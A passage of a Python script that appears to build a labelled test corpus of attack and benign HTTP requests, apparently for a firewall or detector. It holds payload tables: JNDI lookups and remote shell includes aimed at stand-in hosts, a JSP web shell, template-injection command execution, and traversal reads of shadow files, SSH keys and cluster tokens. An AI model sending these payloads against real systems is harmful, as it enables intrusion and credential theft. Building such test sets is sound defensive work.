    ("deser_commons_collections", "org.apache.commons.collections.functors.InvokerTransformer", ""),
    ("jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.5/a\","
     "\"autoCommit\":true}]", ""),
    ("fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.5/a\","
     "\"autoCommit\":true}", ""),
    ("xstream_dynamic_proxy", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "</dynamic-proxy></sorted-set>", ""),
    ("xmldecoder_processbuilder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\""
     " length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
     ""),
    ("groovy_execute", "\"id\".execute()", "'id'.execute().text"),
    ("jsp_scriptlet", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", ""),
    ("jsp_page_import", "<%@ page import=\"java.io.*\" %>", ""),
    ("java_netdoc", "netdoc:///etc/passwd", ""),
    ("java_jar_url", "jar:http://203.0.113.5/x.jar!/", ""),
    ("mvel_runtime", "@{java.lang.Runtime.getRuntime().exec('id')}", ""),
]

LFI: list[Technique] = [
    ("traversal_unix", "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal_dot_dot_slash", "....//....//....//etc/passwd", ""),
    ("traversal_windows", "..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("traversal_full_encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", ""),
    ("traversal_double_encoded", "..%252f..%252f..%252fetc%252fpasswd", ""),
    ("traversal_overlong_utf8", "..%c0%af..%c0%af..%c0%afetc/passwd", ""),
    ("traversal_unicode_slash", "%u002e%u002e%u2215etc%u2215passwd", ""),
    ("traversal_null_byte", "../../../etc/passwd%00.png", ""),
    ("absolute_passwd", "/etc/passwd", "/etc//./passwd"),
    ("absolute_shadow", "/etc/shadow", ""),
    ("proc_environ", "/proc/self/environ", ""),
    ("proc_cmdline", "/proc/self/cmdline", ""),
    ("windows_hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts", ""),
    ("traversal_boot_ini", "../../../boot.ini", ""),
    ("traversal_log", "../../../../var/log/nginx/access.log", ""),
    ("traversal_dotenv", "../../.env", ""),
    ("traversal_git_config", "../../.git/config", ""),
    ("traversal_ssh_key", "../../../../root/.ssh/id_rsa", ""),
    ("traversal_web_inf", "../WEB-INF/web.xml", "..;/WEB-INF/web.xml"),
    ("k8s_token", "/var/run/secrets/kubernetes.io/serviceaccount/token", ""),
]

SSTI: list[Technique] = [
    ("jinja_probe", "{{7*7}}", "{{ 7 * '7' }}"),
    ("jinja_config", "{{config.items()}}", ""),
    ("jinja_mro_subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}", ""),
    ("jinja_globals_os", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum|attr('__globals__')}}"),
    ("twig_filter_callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{['id']|filter('system')}}"),
    ("freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", ""),
    ("velocity_runtime", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", ""),
    ("erb_backtick", "<%= `id` %>", "<%=system('id')%>"),
    ("smarty_php", "{php}echo `id`;{/php}", "{system('id')}"),
    ("thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", ""),
    ("mako_os", "${self.module.cache.util.os.system('id')}", ""),
    ("tornado_import", "{% import os %}{{os.system('id')}}", ""),
    ("django_settings", "{{settings.SECRET_KEY}}", ""),
    ("dollar_probe", "${7*7}", "#{7*7}"),
    ("handlebars_lookup", "{{#with this}}{{lookup this 'constructor'}}{{/with}}", ""),
]

RFI: list[Technique] = [
    ("rfi_http_qmark", "http://203.0.113.5/shell.txt?", "hTtP://203.0.113.5/shell.txt?"),
    ("rfi_https", "https://evil.example.net/s.php", ""),
    ("rfi_ftp", "ftp://203.0.113.5/shell.php", ""),
    ("rfi_null_byte", "http://203.0.113.5/shell.txt%00", ""),
    ("rfi_unc", "\\\\203.0.113.5\\share\\shell.php", ""),
    ("rfi_protocol_relative", "//203.0.113.5/x.txt", ""),
    ("rfi_fragment", "http://203.0.113.5/x.txt#", ""),
    ("rfi_decimal_ip", "http://3405803781/shell.txt?", ""),
    ("rfi_paste_raw", "https://pastebin.com/raw/abc123XY", ""),
]

FAMILIES: dict[str, list[Technique]] = {
    "sqli": SQLI, "rce": RCE, "php": PHP, "xss": XSS, "generic": GENERIC, "java": JAVA, "lfi": LFI, "ssti": SSTI,
    "rfi": RFI,
}
# attack requests per family (~1,400 in all, in the brief's proportions)
TARGETS = {"sqli": 266, "rce": 238, "php": 210, "xss": 196, "generic": 182, "java": 168, "lfi": 70, "ssti": 42,
           "rfi": 28}
PARAMS = {
    "sqli": ["id", "q", "user", "sort", "filter", "email", "order", "search"],
    "rce": ["host", "cmd", "ip", "file", "domain", "exec", "ping", "path"],
    "php": ["code", "page", "data", "callback", "tpl", "input", "c", "template"],
    "xss": ["q", "name", "comment", "redirect", "title", "message", "return_to", "bio"],
    "generic": ["url", "callback", "data", "webhook", "image_url", "filter", "code", "next"],
    "java": ["name", "q", "redirect", "action", "lang", "x", "expr", "debug"],
    "lfi": ["file", "page", "path", "doc", "template", "include", "download", "lang"],
    "ssti": ["name", "greeting", "template", "q", "subject", "title"],
    "rfi": ["page", "file", "include", "template", "module", "load"],
}

# ---------------------------------------------------------------------------------------------------------------
# placements: this file's own helpers
# ---------------------------------------------------------------------------------------------------------------

PLACEMENTS = ("query_value", "json_key", "cookie_value", "path_segment", "form_value", "user_agent", "xml_body",
              "query_name", "json_value", "referer", "multipart_value", "form_name", "text_body", "cookie_name")
NAME_PLACES = ("query_name", "json_key", "form_name", "cookie_name")
URL_PLACES = ("query_value", "json_value", "referer", "form_value", "xml_body", "multipart_value", "cookie_value",
              "path_segment", "text_body")
DOC_PLACES = ("json_value", "text_body", "form_value", "multipart_value", "query_value", "cookie_value")
HEADER_PLACES = ("user_agent", "referer", "cookie_value")
NAME_SUBS = {"nosql_operator_param", "proto_bracket", "proto_constructor", "proto_gadget_env", "spring4shell_param"}
DOC_SUBS = {"proto_json", "proto_unicode_key", "nosql_operator_json", "nosql_where", "jackson_polymorphic",
            "fastjson_autotype"}

GET_ROUTES = ("/api/users", "/api/users/42", "/admin/users/search", "/me/location", "/auth/slack/login")
FORM_ROUTES = ("/admin/users/search", "/oauth/token", "/auth/slack/login", "/me/location", "/api/users")
JSON_ROUTES = ("/api/users", "/api/users/42", "/me/location", "/oauth/token")
XML_ROUTES = ("/api/users", "/admin/users/search", "/api/users/42")
TEXT_ROUTES = ("/api/users/42", "/me/location", "/api/users")
MULTIPART_ROUTES = ("/api/users", "/admin/users/search", "/me/location")
EXTRA_PARAM = {"/api/users": ("page", "1"), "/api/users/42": ("fields", "name,email"),
               "/admin/users/search": ("limit", "20"), "/me/location": ("tab", "map"),
               "/auth/slack/login": ("team", "T061EG9R6")}
COOKIE_SLOTS = ("prefs", "last_search", "lang", "theme", "tracking", "remember", "cart", "return_to")
REF_BASES = ("https://www.example.com/search?q=", "https://blog.example.net/post?ref=",
             "https://jeeves.example.com/admin/users/search?q=")
SESSION = "session=8f14e45fceea167a5a36dedd4bea2543"
BOUNDARY = "----WebKitFormBoundaryq7Zr2VnX4bLp9TcA"
# characters a client leaves raw in a cookie value / name (space, quote, comma, semicolon, backslash, % encoded)
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"
COOKIE_NAME_SAFE = "!#$&'()*+-./:<>?@[]^_`{|}~"
_URLISH = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*:|//)\S*$")
_BRACKETED = re.compile(r"([^\[\]]+)((?:\[[^\[\]]+\])+)")


def _header_safe(text: str) -> str:
    """A header value as a client can send it: printable ASCII and tabs as they are, anything else
    (CR, LF, other controls, non-ASCII) percent-encoded."""
    return "".join(ch if ch == "\t" or " " <= ch <= "~" else urllib.parse.quote(ch, safe="") for ch in text)


def _headers(**extra: str) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json, text/plain, */*", "Accept-Language": "en-GB,en;q=0.9",
            **extra}


def _form_base(route: str) -> list[tuple[str, str]]:
    if route == "/oauth/token":
        return [("grant_type", "client_credentials"), ("client_id", "jeeves-web")]
    if route == "/auth/slack/login":
        return [("state", "b7Qx2mLk9wE1")]
    return [("csrf_token", "t0k3n-5f2a9c")]


def _json_base(route: str) -> dict[str, Any]:
    if route == "/me/location":
        return {"lat": 52.3676, "lon": 4.9041, "accuracy_m": 25}
    if route == "/oauth/token":
        return {"grant_type": "client_credentials", "client_id": "jeeves-web"}
    return {"email": "a.jansen@example.org", "locale": "en-GB"}


def _json_key_doc(key: str, value: str) -> dict[str, Any]:
    """`key` as a JSON member name; a bracketed name (a[b][c]) nests as a parser of such names would."""
    m = _BRACKETED.fullmatch(key)
    if not m:
        return {key: value}
    parts = [m.group(1), *re.findall(r"\[([^\[\]]+)\]", m.group(2))]
    doc: Any = value
    for part in reversed(parts):
        doc = {part: doc}
    return dict(doc)


def _multipart(fields: list[tuple[str, str]], files: list[tuple[str, str, str, str]] | None = None) -> str:
    out = []
    for name, value in fields:
        out.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    for name, filename, ctype, content in files or []:
        out.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\n"
                   f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _post(route: str, body: str, ctype: str) -> dict[str, Any]:
    return {"method": "POST", "uri": route, "body": body, "headers": _headers(**{"Content-Type": ctype})}


def _get_with(route: str, **headers: str) -> dict[str, Any]:
    pair = EXTRA_PARAM[route]
    return {**_get(_query(route, [pair])), "headers": _headers(**headers)}


def _referer(payload: str, k: int) -> str:
    """The payload as a Referer: a URL as it is; anything else raw, raw after a URL, or encoded into a URL."""
    if _URLISH.match(payload):
        return _header_safe(payload)
    mode = k % 3
    if mode == 0:
        return _header_safe(payload)
    base = REF_BASES[k % len(REF_BASES)]
    return base + (_header_safe(payload) if mode == 1 else urllib.parse.quote(payload, safe=""))


def _fits(place: str, payload: str) -> bool:
    """A path segment cannot carry a dot-dot (nginx resolves or rejects it before any rule runs) nor controls."""
    if place == "path_segment":
        return ".." not in payload and not any(ord(ch) < 0x20 for ch in payload)
    return True


def place_request(place: str, value: str, param: str, k: int, name_value: str = "1",
                  benign: bool = False) -> dict[str, Any]:
    """`value` in request part `place` (as the value of `param`, or as a name whose value is `name_value`);
    `k` rotates the route. Benign requests keep off /oauth/token (it takes only its own grant forms)."""
    if place in ("query_value", "query_name"):
        route = GET_ROUTES[k % len(GET_ROUTES)]
        pair = (param, value) if place == "query_value" else (value, name_value)
        return _get(_query(route, [pair, EXTRA_PARAM[route]]))
    if place in ("form_value", "form_name"):
        routes = tuple(r for r in FORM_ROUTES if not (benign and r == "/oauth/token"))
        route = routes[k % len(routes)]
        pair = (param, value) if place == "form_value" else (value, name_value)
        return _form(route, [*_form_base(route), pair])
    if place in ("json_value", "json_key"):
        routes = tuple(r for r in JSON_ROUTES if not (benign and r == "/oauth/token"))
        route = routes[k % len(routes)]
        doc = _json_base(route)
        if place == "json_value":
            doc[param] = value
        else:
            doc.update(_json_key_doc(value, name_value))
        return _json(route, doc)
    route = GET_ROUTES[k % len(GET_ROUTES)]
    if place == "cookie_value":
        slot = COOKIE_SLOTS[k % len(COOKIE_SLOTS)]
        return _get_with(route, Cookie=f"{SESSION}; {slot}={urllib.parse.quote(value, safe=COOKIE_SAFE)}")
    if place == "cookie_name":
        return _get_with(route, Cookie=f"{urllib.parse.quote(value, safe=COOKIE_NAME_SAFE)}={name_value}; {SESSION}")
    if place == "user_agent":
        return {**_get_with(route), "headers": {**_headers(), "User-Agent": _header_safe(value)}}
    if place == "referer":
        ref = REF_BASES[2] + urllib.parse.quote(value, safe="") if benign else _referer(value, k)
        return _get_with(route, Referer=ref)
    if place == "path_segment":
        return _get("/api/users/" + urllib.parse.quote(value, safe="!*'()"))
    if place == "xml_body":
        ctype = "application/xml" if k % 2 == 0 else "text/xml; charset=utf-8"
        body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user>\n  <{param}>{_xml_text(value)}</{param}>\n"
                f"  <locale>en-GB</locale>\n</user>\n")
        return _post(XML_ROUTES[k % len(XML_ROUTES)], body, ctype)
    if place == "text_body":
        return _post(TEXT_ROUTES[k % len(TEXT_ROUTES)], value, "text/plain; charset=utf-8")
    if place == "multipart_value":
        body = _multipart([("csrf_token", "t0k3n-5f2a9c"), (param, value)])
        return _post(MULTIPART_ROUTES[k % len(MULTIPART_ROUTES)], body, f"multipart/form-data; boundary={BOUNDARY}")
    raise ValueError(place)


class _Rotor:
    """Hands out placements from a cycle, rotating, so every request part gets its share."""

    def __init__(self) -> None:
        self.pos: dict[tuple[str, ...], int] = {}

    def take(self, cycle: tuple[str, ...], n: int, payload: str) -> list[str]:
        k = self.pos.get(cycle, 0)
        out: list[str] = []
        for _ in range(4 * len(cycle)):
            if len(out) == n:
                break
            place = cycle[k % len(cycle)]
            k += 1
            if _fits(place, payload) and place not in out:
                out.append(place)
        self.pos[cycle] = k
        return out


def _cycle(family: str, sub: str) -> tuple[str, ...]:
    if sub in NAME_SUBS:
        return NAME_PLACES
    if sub in DOC_SUBS:
        return DOC_PLACES
    if family == "rfi" or sub.startswith("ssrf_"):
        return URL_PLACES
    if sub == "shellshock":
        return HEADER_PLACES
    return PLACEMENTS


def allocation(family: str) -> list[tuple[str, str, bool, int]]:
    """(sub, payload, evasive?, how many placements) for each payload of a family: two each, plus a third for
    as many (atomic first, spread evenly) as the family's target needs."""
    payloads: list[tuple[str, str, bool]] = []
    for sub, atomic, evasive in FAMILIES[family]:
        payloads.append((sub, atomic, False))
        if evasive:
            payloads.append((sub, evasive, True))
    counts = [2] * len(payloads)
    extra = max(0, TARGETS[family] - 2 * len(payloads))
    for flag in (False, True):
        group = [i for i, p in enumerate(payloads) if p[2] is flag]
        take = min(extra, len(group))
        for j, idx in enumerate(group):
            if (j + 1) * take // len(group) > j * take // len(group):
                counts[idx] += 1
        extra -= take
    return [(sub, text, ev, n) for (sub, text, ev), n in zip(payloads, counts, strict=True)]


def attacks() -> Iterator[dict[str, Any]]:
    rotor = _Rotor()
    for family in FAMILIES:
        n = 0
        params = PARAMS[family]
        for sub, payload, _evasive, count in allocation(family):
            name_value = "true" if sub.startswith("proto_") else "1"
            for place in rotor.take(_cycle(family, sub), count, payload):
                n += 1
                rec = place_request(place, payload, params[n % len(params)], n, name_value)
                yield {**rec, "id": f"{SET}-{family}-{n:04d}", "category": family, "placement": place, "sub": sub,
                       "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# benign: ordinary values in the same request parts
# ---------------------------------------------------------------------------------------------------------------

NAMES = [
    "O'Brien", "Siobhán O'Connor", "D'Angelo Russell", "Jean-Luc Picard", "Zoë Ångström", "María José García-López",
    "Nguyễn Văn An", "Ольга Петрова", "李小龙", "Mary-Kate O'Neil", "St. John Smythe", "Anne-Marie d'Arc",
    "Ted \"The Hammer\" Jones", "Dr. Robert L. Oppenheimer Jr.", "Renée & Frank Miller", "O'Reilly Media, Inc.",
    "Björk Guðmundsdóttir", "Sinéad Ní Bhriain", "José (Pepe) Martínez", "Ali bin Abdullah al-Farsi",
]
EMAILS = [
    "first.last+newsletter@example.co.uk", "o'connor@example.ie", "user_42@sub.example.org", "jane.doe@example.com",
    "john.smith@example.museum", "info@xn--mnchen-3ya.de", "a.b-c_d@example-mail.io", "ops+alerts@example.com",
    "x@example.dev", "renée.dubois@example.fr", "team-lead@corp.example.com", "j.o'hara@example.net",
]
SEARCHES = [
    "rock & roll (live)", "C# vs. Java: which is faster?", "50% off — today only!", "what's new in python 3.12?",
    "AT&T customer service", "Q3 2024 report (final, v2)", "\"exact phrase\" -exclude", "café near me",
    "how to center a div?", "100 * 3 / 4 =", "tom & jerry; episode 5", "error: file not found",
    "M&M's 1.5kg bag", "size: 10-12 (EU 44)", "why isn't my cron job running?", "best pizza in N.Y.C.",
    "<3 valentine's cards", "john's birthday party @ 7pm", "price < 20 and rating > 4", "select all that apply",
    "drop shipping suppliers", "union square hotels", "order of the phoenix", "where to buy a script font",
    "1=1 math proof", "sleep apnea treatment", "bash scripting course", "echo dot setup",
    "from: boss subject: urgent", "#hashtag @mention",
]
JSON_DOCS: list[tuple[str, dict[str, Any]]] = [
    ("/api/users", {"name": "Aoife O'Sullivan", "email": "aoife@example.ie", "roles": ["viewer", "editor"],
                    "profile": {"title": "Staff Engineer", "team": "Platform", "timezone": "Europe/Dublin",
                                "links": [{"rel": "github", "href": "https://github.com/aoife-os"}]}}),
    ("/api/users/42", {"preferences": {"theme": "dark", "notifications": {"email": False, "slack": True,
                                                                          "digest": "weekly"},
                                       "shortcuts": ["g i", "g p", "/"]}}),
    ("/me/location", {"lat": 51.5308, "lon": -0.1238, "accuracy_m": 12, "label": "King's Cross",
                      "source": "gps", "recorded_at": "2024-06-22T09:41:07Z"}),
    ("/api/users", {"name": "Lars Ølgaard", "address": {"street": "Nørregade 12, 3. tv", "city": "København",
                                                        "postcode": "1165", "country": "DK"}}),
    ("/api/users/42", {"tags": ["on-call", "db-admins", "eu-west"], "skills": [{"name": "Go", "level": 4},
                                                                              {"name": "SQL", "level": 5}]}),
    ("/me/location", {"lat": -33.8688, "lon": 151.2093, "accuracy_m": 40, "label": "Sydney office (L3)",
                      "share_with": ["C0123456789", "U012345678"]}),
    ("/api/users", {"name": "Chidi Okafor", "bio": "Ops lead. Coffee > tea. Ask me about Terraform & k8s!",
                    "pronouns": "he/him", "start_date": "2021-03-15"}),
    ("/api/users/42", {"status": {"emoji": ":palm_tree:", "text": "Out until Monday — ping @backup for urgent stuff",
                                  "expires": 1719500000}}),
    ("/api/users", {"event": "profile_viewed", "properties": {"viewer": "U012345678", "referrer": "search",
                                                             "position": 3, "query": "o'brien"},
                    "context": {"app": {"version": "2.14.0"}, "os": {"name": "iOS", "version": "17.5.1"}}}),
    ("/api/users/42", {"webhook": {"url": "https://hooks.example.com/services/T061EG9R6/B07ABC/xyz",
                                   "events": ["user.created", "user.updated"], "active": True}}),
    ("/api/users", {"name": "Priya Raghunathan", "emergency_contact": {"name": "Arjun R.", "phone": "+44 20 7946 0958",
                                                                      "relation": "spouse"}}),
    ("/api/users/42", {"feature_flags": {"new_nav": True, "beta_search": False, "rollout": {"percent": 25,
                                                                                           "seed": "2024-06"}}}),
    ("/me/location", {"lat": 40.7128, "lon": -74.006, "accuracy_m": 100, "label": "NYC — 5th Ave & 42nd St",
                      "wifi": {"ssid": "Guest-5G", "bssid": "a4:2b:b0:11:22:33"}}),
    ("/api/users", {"name": "Yūki Tanaka", "display_name": "yuki.t", "languages": ["ja", "en"],
                    "working_hours": {"mon": ["09:00", "17:30"], "fri": ["09:00", "15:00"]}}),
    ("/api/users/42", {"avatar": {"url": "https://cdn.example.com/avatars/42.png?v=3&size=256", "width": 256,
                                  "height": 256}}),
    ("/api/users", {"items": [{"sku": "TSHIRT-M-BLK", "qty": 2, "price": 19.99},
                              {"sku": "MUG-11OZ", "qty": 1, "price": 9.5}], "currency": "EUR",
                    "note": "Please gift-wrap the mug :)"}),
    ("/api/users/42", {"manager": {"id": 7, "name": "Grace Hopper"}, "reports": [{"id": 51}, {"id": 52}],
                       "cost_center": "R&D-0042"}),
    ("/me/location", {"lat": 48.8566, "lon": 2.3522, "accuracy_m": 18, "label": "Café de l'Industrie",
                      "visibility": "team"}),
    ("/api/users", {"name": "Fatima Zahra El-Amrani", "email": "fz.elamrani@example.ma", "phones": [
        {"type": "mobile", "number": "+212 6 12 34 56 78"}, {"type": "work", "number": "+212 5 22 00 00 00"}]}),
    ("/api/users/42", {"ooo": {"from": "2024-07-01", "to": "2024-07-14",
                               "message": "I'm away; for billing, email billing@example.com (24-48h reply)."}}),
]
COOKIES = [
    "_ga=GA1.2.1234567890.1718900000; _gid=GA1.2.987654321.1719000000; _gat_UA-12345-1=1",
    "OptanonConsent=isGpcEnabled=0&datestamp=Sat+Jun+22+2024+10%3A15%3A03+GMT%2B0200+(Central+European+Summer+Time)"
    "&version=202403.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=3f1c2a9e-7d4b-4c1e-9a8f-2b6d5e0c1a77"
    "&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0; "
    "OptanonAlertBoxClosed=2024-06-22T08:15:03.512Z",
    "csrftoken=Xk2v9QmR4tLp8WzN3bYc6HdF1gJs0AeU; sessionid=q8w7e6r5t4y3u2i1o0p9a8s7d6f5g4h3",
    "XSRF-TOKEN=eyJpdiI6IkJ2dGZ3c2hKUk5vZ2RmZz09IiwidmFsdWUiOiJ5dW5mZ2hkc2Fqa2xoZ2ZkIiwibWFjIjoiYWJjMTIzIn0%3D; "
    "laravel_session=eyJpdiI6Ik1uT3BxciIsInZhbHVlIjoiWnl4dyJ9",
    "_fbp=fb.1.1718999999123.1234567890; _fbc=fb.1.1719000000456.IwAR2xYz-AbCdEf_GhIj",
    "ajs_anonymous_id=%22b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e%22; ajs_user_id=%22u_4821%22",
    "cookieyes-consent=consentid:ZmFrZWlkMTIz,consent:yes,action:yes,necessary:yes,functional:yes,analytics:no,"
    "performance:no,advertisement:no",
    "euconsent-v2=CP9xYzAP9xYzAAHABBENA1EsAP_gAH_gAAAAJ3tX_H__bX9r-f7_6ft0eY1f9_r37uQzDhfNs-8F3L_W_LwX32E7NF36pq4KmR4"
    "ku1bBIQNtHMnUDUmxaolVrzHsak2cpyNKJ_BkknsZe2dYGF9vn9lD-YKZ7_5_9_f52T_9_9_-39z3_9f___dv_-__-vjf_599n_v9fV_78_Kf9A",
    "_hjSessionUser_1234567=eyJpZCI6ImFiYzEyMyIsImNyZWF0ZWQiOjE3MTkwMDAwMDAwMDAsImV4aXN0aW5nIjp0cnVlfQ==; "
    "_hjSession_1234567=eyJpZCI6ImRlZjQ1NiJ9",
    "__Host-session=7c9e6679-7425-40de-944b-e07fc1f90ae7; __Secure-csrf=f3a9c1e07b2d",
    "intercom-id-abc123xy=0b9c8d7e-6f5a-4b3c-2d1e-0f9a8b7c6d5e; intercom-session-abc123xy=; "
    "intercom-device-id-abc123xy=11aa22bb-33cc-44dd-55ee-66ff77aa88bb",
    "AMCV_1234567890ABCDEF%40AdobeOrg=-1124106680%7CMCIDTS%7C19896%7CMCMID%7C12345678901234567890123456789012345678;"
    " s_cc=true",
    "_pk_id.1.1fff=4a5b6c7d8e9f0a1b.1719000000.; _pk_ses.1.1fff=1",
    "cf_clearance=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-1719000000-0-150; __cf_bm=xYz.123-1719000000-1.0.1.1-AbCdEf",
    "lang=en-GB; theme=dark; tz=Europe%2FLondon; sidebar=collapsed",
    "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; AWSALB=abc/def+ghi==; AWSALBCORS=abc/def+ghi==",
    "PHPSESSID=9k3j2h1g0f9d8s7a6p5o4i3u2y; wordpress_test_cookie=WP%20Cookie%20check",
    "connect.sid=s%3AxYz123AbC.dEfGhIjKlMnOpQrStUvWxYz0123456789%2BAbCdE; locale=fr_FR",
    "amplitude_id_fef1e872c952688acd962d30aa545b9eexample.com=eyJkZXZpY2VJZCI6ImFiYzEyMyIsInVzZXJJZCI6bnVsbCwib3B0T3V0"
    "IjpmYWxzZX0=",
    "hubspotutk=5f4dcc3b5aa765d61d8327deb882cf99; __hstc=123456.5f4dcc3b5aa765d61d8327deb882cf99.1719000000000."
    "1719000000000.1719000000000.1; __hssrc=1",
    "_gcl_au=1.1.123456789.1719000000; _uetsid=abc123def456; _uetvid=789ghi012jkl",
    "recently_viewed=sku-1042%2Csku-2290%2Csku-0007; cart_count=3",
    "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d=eyJpdiI6IjEyMyJ9; XSRF-TOKEN=abc%3D%3D",
    "ln_or=eyIzNDU2Nzg5IjoiZCJ9; bcookie=\"v=2&8a7b6c5d-4e3f-2a1b-0c9d-8e7f6a5b4c3d\"",
    "consent={\"necessary\":true,\"analytics\":false,\"marketing\":false}; consent_date=2024-06-22",
    "_ga_ABC123XYZ=GS1.1.1719000000.3.1.1719000123.0.0.0; _ga=GA1.1.1111111111.1718000000",
    "ab_test=checkout_v2%3Avariant_b; feature_flags=new_nav,dark_mode,beta_search",
    "slack_oauth_state=9f8e7d6c5b4a; next=%2Fme%2Flocation%3Ftab%3Dsettings",
    "datadome=AbC~123_xYz; _dd_s=rum=1&id=abc-123&created=1719000000000&expire=1719000900000",
    "session=eyJ1c2VyX2lkIjo0Mn0.ZnZ5aA.s1gNaTuR3-abc_def; remember_token=42|c0ffee",
]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240605.024; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 "
    "Edg/126.0.0.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.39.90 "
    "Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36 Sonic Slack_SSB/4.39.90",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "curl/8.8.0",
    "Go-http-client/2.0",
    "aws-sdk-js/3.600.0 ua/2.1 os/linux#6.1.0 lang/js md/nodejs#20.15.0 api/s3#3.600.0",
    "axios/1.7.2",
    "PostmanRuntime/7.39.0",
    "Dart/3.4 (dart:io)",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Jeeves/2.14.0 (com.example.jeeves; build:2140; iOS 17.5.1) Alamofire/5.9.1",
    "Jeeves/2.14.0 (Android 14; Pixel 8) okhttp/4.12.0",
    "Mozilla/5.0 (iPad; CPU OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
    "Twitterbot/1.0",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.6478.126 "
    "Safari/537.36",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Faraday v2.9.2",
    "Java/17.0.11",
    "Wget/1.21.4",
    "GitHub-Hookshot/8a1b2c3",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
]
REFERERS = [
    "https://www.google.com/search?q=jeeves+slack+bot+user+directory&rlz=1C1GCEA_enUS1080US1080&oq=jeeves+slack"
    "&gs_lcrp=EgZjaHJvbWUqBwgBEAAYgAQyBggAEEUYOTIHCAEQABiABDIICAIQABgWGB4yCAgDEAAYFhgeMggIBBAAGBYYHjIICAUQABgWGB4y"
    "BggGEEUYPNIBCDQ1MjFqMGo3qAIAsAIA&sourceid=chrome&ie=UTF-8",
    "https://www.bing.com/search?q=how+to+export+slack+users+to+csv&form=QBLH&sp=-1&ghc=1&lq=0"
    "&pq=how+to+export+slack+users&sc=10-25&qs=n&sk=&cvid=1F2E3D4C5B6A79888796A5B4C3D2E1F0&ghsh=0&ghacc=0&ghpl=",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fjeeves.example.com%2Fapi%2Fusers%3Futm_source%3Dfacebook%26"
    "utm_medium%3Dsocial&h=AT0abc123def456ghi789jkl_mno-pqr&__tn__=-UK-R&c[0]=AT1xyz",
    "https://jeeves.example.com/admin/users/search?q=o%27brien&sort=-created_at&filter%5Bstatus%5D=active"
    "&filter%5Brole%5D%5B%5D=admin&filter%5Brole%5D%5B%5D=editor&page=3&per_page=50",
